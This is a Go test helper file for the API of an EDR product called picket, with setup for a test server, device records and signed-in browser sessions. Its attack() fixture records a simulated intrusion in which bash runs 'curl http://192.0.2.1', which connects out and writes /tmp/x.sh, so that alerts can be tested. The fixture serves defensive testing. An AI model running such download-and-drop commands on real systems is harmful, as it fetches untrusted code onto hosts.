// SPDX-License-Identifier: Apache-2.0

package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"go.uber.org/goleak"

	"github.com/picket-edr/picket"
	"github.com/picket-edr/picket/auth"
	"github.com/picket-edr/picket/event"
	"github.com/picket-edr/picket/state"
	"github.com/picket-edr/picket/store"
	"github.com/picket-edr/picket/store/duckdb"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m, goleak.IgnoreTopFunction("database/sql.(*DB).connectionOpener"))
}

// world is the interface over a real state database and a real event store.
type world struct {
	t        *testing.T
	url      string
	db       *state.DB
	auth     *auth.Service
	events   *duckdb.Store
	hub      *Hub
	password string
	device   string
	policies []string // tenants whose policy was sent
	revoked  []string
	now      time.Time
}

func newWorld(t *testing.T) *world {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	log := slog.New(slog.DiscardHandler)
	w := &world{t: t, hub: NewHub(), now: time.Now()}
	var err error
	if w.db, err = state.Open(ctx, state.Options{URL: "sqlite:" + filepath.Join(dir, "state.db"), Log: log}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.db.Close() })
	for _, id := range []string{"default", "other"} {
		if err := w.db.CreateTenant(ctx, picket.Tenant{ID: id, Name: id, Retention: picket.DefaultRetention, Created: w.now}); err != nil {
			t.Fatal(err)
		}
	}
	if w.auth, err = auth.New(auth.Options{Users: w.db, Sessions: w.db, Tokens: w.db, Attempts: w.db, Audit: w.db, Tenant: "default", Now: time.Now}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.auth.EnsureAdmin(ctx, "default", func(_, p string) error { w.password = p; return nil }); err != nil {
		t.Fatal(err)
	}
	if w.events, err = duckdb.Open(ctx, duckdb.Options{Dir: filepath.Join(dir, "events"), MemoryMB: 512, Threads: 1, Log: log, Now: time.Now}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.events.Close() })
	w.device = w.addDevice("default", "web-1.example")
	if err := os.WriteFile(filepath.Join(dir, "picket-sensor-linux-amd64"), []byte("the sensor"), 0o755); err != nil {
		t.Fatal(err)
	}
	h, err := New(Options{
		Auth: w.auth, Devices: w.db, Alerts: w.db, Marks: w.db, Setup: w.db, Tokens: w.db, Policies: w.db, Audit: w.db, Hub: w.hub,
		Events:    func(string) (store.Events, error) { return w.events, nil },
		Rules:     []Rule{{ID: "r", Title: "Rule"}},
		Roles:     func(context.Context) []RoleState { return []RoleState{{"bus", "ok", ""}} },
		TokenText: func(tenant string, secret [32]byte) string { return "pkt1." + tenant }, RevokeDevice: func(_, d string) { w.revoked = append(w.revoked, d) },
		CheckPolicy: func(b []byte) error {
			if strings.Contains(string(b), "nonsense") {
				return fmt.Errorf("policy: unknown key: %w", picket.Invalid)
			}
			return nil
		},
		PolicyChanged: func(tenant string) { w.policies = append(w.policies, tenant) },
		Gateway:       "127.0.0.1:8444", PortalURL: "http://portal", DetectionTest: "true", SensorDir: dir,
		Portal:  fstest.MapFS{"index.html": {Data: []byte(`<meta content="__CSP_NONCE__">`)}, "assets/a.js": {Data: []byte("js")}},
		Metrics: prometheus.NewRegistry(), Log: log, Now: time.Now,
	})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	w.url = srv.URL
	return w
}

func (w *world) addDevice(tenant, name string) string {
	w.t.Helper()
	id := state.NewDeviceID()
	d := picket.Device{ID: id, Tenant: tenant, Name: name, OSPlatform: "Linux", OSDistribution: "Debian", FirstSeen: w.now}
	if err := w.db.CreateDevice(context.Background(), tenant, d, state.HostIdentity{}); err != nil {
		w.t.Fatal(err)
	}
	if err := w.db.TouchDevices(context.Background(), tenant, []state.DeviceTouch{{DeviceID: id, Heartbeat: w.now, Telemetry: w.now}}); err != nil {
		w.t.Fatal(err)
	}
	return id
}

// events stores a small attack: bash starts curl, curl connects and writes.
func (w *world) attack() {
	w.t.Helper()
	at := event.TimeOf(w.now.Add(-time.Minute))
	var b event.Builder
	b.Add(&event.DeviceProcessEvents{Timestamp: at, ReportId: 1, ActionType: "ProcessCreated", FileName: "bash", FolderPath: "/usr/bin/bash", ProcessCommandLine: "bash", ProcessUniqueId: "g-bash", ProcessId: 10, AccountName: "alice", InitiatingProcessFileName: "sshd", InitiatingProcessUniqueId: "g-sshd", ProcessCreationTime: at})
	b.Add(&event.DeviceProcessEvents{Timestamp: at + 1, ReportId: 2, ActionType: "ProcessCreated", FileName: "curl", FolderPath: "/usr/bin/curl", ProcessCommandLine: "=curl http://192.0.2.1", ProcessUniqueId: "g-curl", ProcessId: 11, AccountName: "alice", InitiatingProcessFileName: "bash", InitiatingProcessUniqueId: "g-bash", InitiatingProcessParentFileName: "sshd", ProcessCreationTime: at + 1, SHA1: strings.Repeat("a", 40)})
	b.Add(&event.DeviceNetworkEvents{Timestamp: at + 2, ReportId: 3, ActionType: "ConnectionSuccess", RemoteIP: "192.0.2.1", RemotePort: 80, InitiatingProcessFileName: "curl", InitiatingProcessUniqueId: "g-curl", InitiatingProcessParentUniqueId: "g-bash"})
	b.Add(&event.DeviceFileEvents{Timestamp: at + 3, ReportId: 4, ActionType: "FileCreated", FileName: "x.sh", FolderPath: "/tmp/x.sh", InitiatingProcessFileName: "curl", InitiatingProcessUniqueId: "g-curl"})
	b.Add(&event.DeviceEvents{Timestamp: at + 4, ReportId: 5, ActionType: "SensorLoss", AdditionalFields: `{"lost":{"kernel.file":7}}`})
	b.Add(&event.DeviceLogonEvents{Timestamp: at + 5, ReportId: 6, ActionType: "LogonSuccess", AccountName: "alice", LogonType: "RemoteInteractive", RemoteIP: "192.0.2.9"})
	env := event.Envelope{Tenant: "default", DeviceID: w.device, DeviceName: "web-1.example", Received: event.TimeOf(w.now), BootID: "boot", Seq: 1}
	if err := w.events.Append(context.Background(), []store.Delivery{{Position: store.Position{Epoch: "e", Sequence: 1}, Envelope: env, Batch: &event.Batch{Blocks: b.Take()}}}); err != nil {
		w.t.Fatal(err)
	}
	if err := w.events.Flush(); err != nil {
		w.t.Fatal(err)
	}
	a := picket.Alert{
		ID: strings.Repeat("a", 32), DeviceID: w.device, DeviceName: "web-1.example", Title: "Download", Severity: picket.High, Category: "SuspiciousActivity", RuleID: "r",
		Status: picket.StatusNew, FirstActivity: at.Time(), LastActivity: at.Time(), ProcessGUID: "g-curl", User: "alice", DetectionSource: "EDR",
		Evidence: []picket.Evidence{{EntityType: "Process", Role: "Impacted", Time: at.Time(), Table: "DeviceProcessEvents", ReportID: 2, BootID: "boot", ProcessGUID: "g-curl", Fields: map[string]string{"FileName": "curl"}}},
	}
	if _, err := w.db.FoldAlerts(context.Background(), "default", []picket.Alert{a}, w.now); err != nil {
		w.t.Fatal(err)
	}
}

// browser is a client with cookies and a CSRF token.
type browser struct {
	w      *world
	client *http.Client
	csrf   string
	bearer string
	cookie string
}

func (w *world) anonymous() *browser {
	return &browser{w: w, client: &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

func (w *world) signIn(user, password string) *browser {
	w.t.Helper()
	b := w.anonymous()
	var s Session
	r := b.do(http.MethodPost, "/api/portal/session", Credentials{user, password}, &s)
	if r.StatusCode != http.StatusOK {
		w.t.Fatalf("sign-in: %s", r.Status)
	}
	b.csrf = s.CSRFToken
	for _, c := range r.Cookies() {
		b.cookie = c.Name + "=" + c.Value
	}
	return b
}

func (w *world) admin() *browser { return w.signIn("admin", w.password) }

// do sends a request and decodes the answer into out when that is not nil.
func (b *browser) do(method, path string, in, out any) *http.Response {
	b.w.t.Helper()
	var body io.Reader
	if in != nil {
		data, err := json.Marshal(in)
		if err != nil {
			b.w.t.Fatal(err)
		}
		body = bytes.NewReader(data)
	}
	req, err := http.NewRequestWithContext(context.Background(), method, b.w.url+path, body)
	if err != nil {
		b.w.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	if b.cookie != "" {
		req.Header.Set("Cookie", b.cookie)
	}
	if b.csrf != "" {
		req.Header.Set("X-CSRF-Token", b.csrf)
	}
	if b.bearer != "" {
		req.Header.Set("Authorization", "Bearer "+b.bearer)
	}
	resp, err := b.client.Do(req)
	if err != nil {
		b.w.t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		b.w.t.Fatal(err)
	}
	resp.Body = io.NopCloser(bytes.NewReader(data))
	if out != nil && resp.StatusCode < 300 {
		if err := json.Unmarshal(data, out); err != nil {
			b.w.t.Fatalf("%s %s: %v in %s", method, path, err, data)
		}
	}
	return resp
}

// want sends a request and checks its status.
func (b *browser) want(status int, method, path string, in, out any) *http.Response {
	b.w.t.Helper()
	r := b.do(method, path, in, out)
	if r.StatusCode != status {
		text, _ := io.ReadAll(r.Body)
		b.w.t.Errorf("%s %s: got %s, want %d: %s", method, path, r.Status, status, text)
	}
	return r
}

func text(r *http.Response) string {
	data, _ := io.ReadAll(r.Body)
	return string(data)
}
